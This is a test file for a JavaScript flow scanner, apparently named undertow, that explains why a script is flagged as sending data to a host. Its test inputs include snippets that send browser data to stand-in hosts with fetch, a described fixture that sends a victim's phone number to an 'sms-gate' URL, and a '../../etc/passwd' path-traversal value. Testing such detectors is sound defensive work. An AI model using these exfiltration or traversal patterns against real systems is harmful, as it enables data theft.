"""Why a flow is claimed: its stations, guards and hidden values, each with the code it stands on."""

from __future__ import annotations

from pathlib import Path

import pytest

from undertow.errors import UsageError
from undertow.model import ExplainedFlow
from undertow.scan import scan
from undertow.scan.explain import explain

FIXTURES = Path(__file__).parents[1] / "analysis" / "fixtures"
HOST = "sms-gate.red-willow.test"


def explained(name: str) -> ExplainedFlow:
    (flow,) = explain(str(FIXTURES / name), HOST).flows
    return flow


def test_every_station_is_shown_with_the_bytes_it_stands_on() -> None:
    source = (FIXTURES / "gate.heavy.580.js").read_bytes()
    flow = explained("gate.heavy.580.js")
    assert flow.steps[0].code.decoded == 'document.getElementById("phone-input").value'
    for step in flow.steps:
        start, end = step.code.span
        assert source[start:end].decode().startswith(step.code.delivered.rstrip("…"))
    assert "fetch(" in flow.sink.decoded
    assert "sms-gate" not in flow.sink.delivered


def test_guards_stand_there_in_words_and_as_code() -> None:
    guards = explained("gate.heavy.580.js").guards
    assert [guard.kind for guard in guards] == ["event", "condition"]
    assert "the phone number does not start with +86" in guards[1].words
    assert '.indexOf("+86")' in guards[1].code.decoded
    assert "+86" not in guards[1].code.delivered


def test_a_hidden_value_is_told_with_its_expression_place_and_decoders() -> None:
    source = (FIXTURES / "gate.heavy.580.js").read_bytes()
    (value,) = (v for v in explained("gate.heavy.580.js").values if v.value.startswith("https://"))
    assert value.value == f"https://{HOST}/verify?ph="
    assert source[slice(*value.span)].decode() == value.code
    name, _, place = value.decoders[0].partition(" (byte ")
    assert source[int(place.rstrip(")")) :].startswith(name.encode())


def test_plain_code_has_no_hidden_values() -> None:
    flow = explained("gate.js")
    assert flow.values == ()
    assert flow.sink.line == 8


def test_a_flow_is_found_by_the_beginning_of_its_id_and_only_that_one() -> None:
    target = str(FIXTURES)
    ids = [flow.id for script in scan(target).scripts for flow in script.flows]
    assert len(set(ids)) == len(ids) == 7
    for identity in ids[:2]:
        assert [e.flow.id for e in explain(target, identity[:6]).flows] == [identity]


def test_the_id_does_not_depend_on_the_name_of_the_file(tmp_path: Path) -> None:
    (tmp_path / "renamed.js").write_bytes((FIXTURES / "gate.js").read_bytes())
    (here,) = scan(str(tmp_path)).scripts
    (there,) = scan(str(FIXTURES / "gate.js")).scripts
    assert here.flows[0].id == there.flows[0].id


def test_a_host_to_which_no_path_leads_is_told_as_a_mention(tmp_path: Path) -> None:
    (tmp_path / "a.js").write_text("var home = 'https://named.test/home'; fetch('https://other.test/')")
    answer = explain(str(tmp_path), "named.test")
    assert answer.flows == ()
    assert [mention.endpoint.url for mention in answer.mentions] == ["https://named.test/home"]


@pytest.mark.parametrize("asked", ["nobody.test", "ffffffffff", "abc", ""])
def test_what_is_not_there_is_said_with_where_to_look(asked: str) -> None:
    with pytest.raises(UsageError, match="undertow scan"):
        explain(str(FIXTURES / "gate.js"), asked)


def test_the_source_map_names_the_place_that_the_author_wrote(tmp_path: Path) -> None:
    code = "fetch('https://sink.test/?' + navigator.platform)\n//# sourceMappingURL=a.js.map"
    (tmp_path / "a.js").write_text(code)
    (tmp_path / "a.js.map").write_text(
        '{"version": 3, "sources": ["../src/track.ts"], "names": ["send"], "mappings": "AAUEA"}'
    )
    (flow,) = explain(str(tmp_path), "sink.test").flows
    for origin in (flow.flow.origin, flow.sink.origin, flow.steps[-1].code.origin):
        assert origin is not None
        assert (origin.file, origin.line, origin.column, origin.name) == ("../src/track.ts", 11, 3, "send")


def test_a_source_map_that_is_none_changes_nothing_but_a_note(tmp_path: Path) -> None:
    code = "fetch('https://sink.test/?' + navigator.platform)\n//# sourceMappingURL="
    for number, named in enumerate(("missing.map", "data:application/json;base64,e30=", "../../etc/passwd")):
        (tmp_path / f"{number}.js").write_text(code + named)
    for script in scan(str(tmp_path)).scripts:
        assert script.source_map is None
        assert [flow.host for flow in script.flows] == ["sink.test"]
        assert [(gap.kind, gap.hides_findings) for gap in script.gaps] == [("source-map-not-read", False)]


def test_columns_of_a_source_map_are_counted_as_it_counts_them(tmp_path: Path) -> None:
    """“😀” is four bytes and two units: the call begins at unit 7 of its line."""
    (tmp_path / "a.js").write_text("/*😀*/ fetch('https://sink.test/?' + navigator.platform)\n//# sourceMappingURL=m")
    (tmp_path / "m").write_text('{"version": 3, "sources": ["a.ts", "b.ts"], "mappings": "AAAA,OCAA,CDAA"}')
    (flow,) = explain(str(tmp_path), "sink.test").flows
    assert flow.flow.origin is not None
    assert flow.flow.origin.file == "b.ts"
